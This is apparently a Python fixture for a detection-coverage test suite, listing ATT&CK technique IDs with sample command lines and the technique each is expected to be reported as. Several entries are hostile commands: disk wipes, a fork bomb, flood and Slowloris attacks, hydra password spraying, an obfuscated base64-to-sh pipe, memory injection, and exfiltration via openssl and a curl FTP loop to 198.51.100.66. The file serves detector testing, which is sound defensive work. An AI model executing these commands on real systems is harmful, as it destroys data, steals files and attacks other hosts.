"""Techniques whose traces are those of others: each is told, often under the name of what shows of it."""

from tests.detect.coverage.entry import Entry
from tests.detect.coverage.ran import ran

__all__ = ["ENTRIES"]

# fmt: off
ENTRIES: tuple[Entry, ...] = (
    # looking around
    ran("T1016.001", "app", "ping -c 1 198.51.100.9", told_as="T1082"),
    ran("T1033", "app", "whoami --version", told_as="T1082"),
    ran("T1049", "app", "ss -antp", told_as="T1505.003"),
    ran("T1069.001", "app", "groups ana", told_as="T1082"),
    ran("T1083", "app", "find /home -type f -newermt 2026-01-01", told_as="T1082"),
    ran("T1087.001", "app", "getent passwd", told_as="T1082"),
    ran("T1654", "app", "journalctl -u ssh -n 500", told_as="T1082"),
    # hiding
    ran("T1027.010", "stray", "sh -c echo Y3VybCB4 | rev | base64 -d | sh", told_as="T1140"),
    ran("T1036.009", "stray", "bash -i", told_as="T1059.004"),
    ran("T1036.009", "stray", "/dev/shm/upd --daemon", told_as="T1059"),
    ran("T1036.011", "stray", "nginx: worker process", path="/usr/bin/python3.11", subject="process:/worker"),
    ran("T1036.011", "root", "[kworker/u8:3]", path="/opt/a/t", subject="process:/opt/a/t"),
    ran("T1055.009", "root", "dd if=/tmp/x of=/proc/350/mem bs=1 seek=4198400"),
    ran("T1564.006", "stray", "qemu-system-x86_64 -m 256 -nographic -hda /tmp/a.img -nic user,restrict=off", talks="far"),
    # getting in, and on
    ran("T1190", "app", "sh -c uname -a; id", told_as="T1505.003"),
    ran("T1190", "db", "bash -c whoami", told_as="T1505.003"),
    ran("T1203", "web", "bash -c id", told_as="T1505.003"),
    ran("T1204.002", "ana", "/home/ana/Downloads/invoice.pdf", talks="bad", told_as="T1571"),
    ran("T1210", "db", "sh -c cat /etc/passwd", told_as="T1505.003"),
    ran("T1110.003", "stray", "hydra -L /tmp/users -p Winter2026 ssh://10.0.0.77"),
    ran("T1110.004", "stray", "hydra -C /tmp/pairs ssh://10.0.0.77"),
    ran("T1543.005", "app", "docker run -d --restart=always --name upd alpine sh -c sleep 9d", told_as="T1609"),
    ran("T1569.003", "app", "systemctl start upd.service", told_as="T1053.003"),
    ran("T1090.002", "stray", "proxychains4 ssh x@198.51.100.66"),
    ran("T1668", "root", "pkill -9 kinsing", told_as="T1489"),
    # taking data along
    ran("T1020", "stray", "rclone copy /srv mega:x --config /tmp/r.conf", told_as="T1567.002"),
    ran("T1025", "app", "tar cf /tmp/.m.tar /media/usb0", told_as="T1560.001"),
    ran("T1039", "app", "smbget -R smb://10.0.0.7/share", told_as="T1048"),
    ran("T1074.002", "app", "rsync -a root@10.0.0.7:/srv/ /tmp/s", told_as="T1105"),
    ran("T1048.001", "stray", "sh -c tar cz /srv | openssl s_client -quiet -connect 198.51.100.66:443"),
    ran("T1052.001", "app", "cp -r /srv/share /media/usb0"),
    ran("T1029", "stray", "sh -c while sleep 3600; do curl -T /tmp/a ftp://198.51.100.66/; done", told_as="T1048"),
    # damage
    ran("T1561.001", "root", "dd if=/dev/urandom of=/dev/vda bs=1M"),
    ran("T1561.001", "root", "shred -n 1 /dev/sdb"),
    ran("T1561.002", "root", "wipefs -af /dev/nvme0n1"),
    ran("T1561.002", "root", "dd if=/dev/zero of=/dev/sda bs=512 count=1"),
    ran("T1498.001", "stray", "hping3 --flood -S -p 80 203.0.113.5"),
    ran("T1498.002", "stray", "hping3 -2 -p 53 -a 203.0.113.5 198.51.100.9"),
    ran("T1499.001", "stray", "bash -c :(){ :|:& };:"),
    ran("T1499.002", "stray", "slowhttptest -c 1000 -H -u http://203.0.113.5/"),
    ran("T1499.003", "stray", "slowloris 203.0.113.5"),
    ran("T1496.002", "stray", "/opt/peer/peer2profit --email x", talks="pool", told_as="T1571"),
)
# fmt: on
